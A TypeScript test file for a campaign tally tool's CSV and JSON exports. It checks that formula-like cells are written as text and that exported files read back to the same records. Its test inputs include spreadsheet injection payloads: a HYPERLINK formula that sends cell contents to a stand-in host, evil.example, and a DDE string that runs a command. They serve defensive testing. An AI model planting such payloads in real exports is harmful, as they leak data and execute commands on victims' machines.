/**
 * CSV injection: a cell that a spreadsheet would run as a formula is written as
 * text, in the campaign download and the tally CSV alike, and `tally import`
 * reads our own file back to the same records.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell, restoreCell, toCsv } from '#/lib/formats/csv.ts';
import { parseCsv, planImport, readSheet } from '#/lib/tally/event-import.ts';
import { loadSettings } from '#/lib/site/settings.ts';
import type { CampaignRecord, EventRecord } from '#/lib/tally/tally.ts';
import { campaignReport, eventsCsv, eventsJson, renderReports } from '#/lib/tally/report.ts';
import { imagePath, schemaContext } from '#/schemas/context.ts';
import { eventSchema } from '#/schemas/events.ts';

const work = mkdtempSync(path.join(tmpdir(), 'csv-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Cells Excel, WPS or LibreOffice would read as a formula (or DDE call) if written as they are. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  '=1+1',
  '+1+2',
  '-1+2',
  '-2-3-cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝１＋１',
  '＋SUM(A1)',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
];

/** What a spreadsheet sees in a cell: the parsed text, before any formula reading. */
const cellsOf = (csv: string) => parseCsv(csv.replace(/^\ufeff/, ''));

describe('CSV cells', () => {
  it.each(FORMULAS)('writes %j as text: a leading quote mark, the cell quoted', (text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cellsOf(`${cell}\r\n`)).toEqual([[`'${text}`]]);
    expect(restoreCell(`'${text}`)).toBe(text);
  });

  it('leaves numbers and ordinary text as they are', () => {
    expect(csvCell(120)).toBe('120');
    expect(csvCell('13569')).toBe('13569');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('城关镇禁毒办')).toBe('城关镇禁毒办');
    expect(csvCell('禁毒=健康')).toBe('禁毒=健康');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
  });

  it('prefixes text that already starts with a quote mark, so reading back is exact', () => {
    for (const text of ["'=x", "'普通", "''"]) {
      expect(csvCell(text)).toBe(`"'${text}"`);
      expect(restoreCell(`'${text}`)).toBe(text);
    }
    expect(restoreCell("'普通")).toBe("'普通");
    expect(restoreCell(42)).toBe(42);
  });
});

const settings = loadSettings(path.resolve('tests/fixtures/other-city'), {});
const schema = eventSchema(schemaContext(settings, imagePath));

const event = (organizer: string, venue: string, i: number): EventRecord => ({
  id: `e${i}`,
  file: `content/events/e${i}.md`,
  campaign: 'spring',
  date: '2025-04-01',
  town: '城关镇',
  organizer,
  venue,
  format: '讲座',
  leaflets: 10 + i,
  audience: 100 + i,
});

const campaignNamed = (name: string): CampaignRecord => ({
  id: 'spring',
  file: 'content/campaigns/spring.md',
  name,
  start: '2025-04-01',
  end: '2025-04-30',
  reported: { events: 0, leaflets: 0, audience: 0 },
});

const events = FORMULAS.filter((f) => f.trim() === f).map((f, i) => event(f.slice(0, 40), `${f.slice(0, 30)}广场`, i));

describe('downloads and tally output', () => {
  it('guards every formula-like cell of events.csv', () => {
    const rows = cellsOf(eventsCsv(events, settings.townLabel));
    for (const [i, e] of events.entries()) {
      const guarded = [`'${e.organizer}`, expect.stringMatching(/^'/)];
      expect(rows[i + 1]).toEqual([e.date, e.town, ...guarded, e.format, String(e.leaflets), String(e.audience)]);
    }
  });

  it('reads events.csv back through tally import to the same records', async () => {
    const file = path.join(work, 'events.csv');
    writeFileSync(file, eventsCsv(events, settings.townLabel));
    const { records, problems } = planImport(await readSheet(file), 'spring', schema);
    expect(problems).toEqual([]);
    expect(records.map((r) => [r.data.organizer, r.data.venue, r.data.leaflets, r.data.audience])).toEqual(
      events.map((e) => [e.organizer, e.venue, e.leaflets, e.audience]),
    );
  });

  it('guards the tally CSV too (campaign names and breakdown keys)', () => {
    const campaign = campaignNamed('=HYPERLINK("http://evil.example","春季")');
    const csv = renderReports([campaignReport(campaign, events, ['organizer'], [])], 'csv', settings.townLabel);
    const cells = cellsOf(csv).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r\n＝＋－＠]/.test(c) && !/^-?\d+$/.test(c))).toEqual([]);
    expect(cells).toContain(`'${campaign.name}`);
  });

  it('writes events.json that parses back to the same text, lone surrogates escaped rather than mangled', () => {
    const hostile = [event('</script><!--"引号"\\', '\u2028行\u2029\ud800', 0), ...events];
    const json = eventsJson(campaignNamed('春季'), hostile);
    expect(json).toContain('\\ud800');
    expect(Buffer.from(json, 'utf8').toString('utf8')).toBe(json);
    const parsed = JSON.parse(json) as { events: { organizer: string; venue: string }[] };
    expect(parsed.events.map((e) => [e.organizer, e.venue])).toEqual(hostile.map((e) => [e.organizer, e.venue]));
  });

  it('writes a BOM and CRLF rows', () => {
    expect(toCsv([['a', 1]])).toBe('\ufeffa,1\r\n');
  });
});
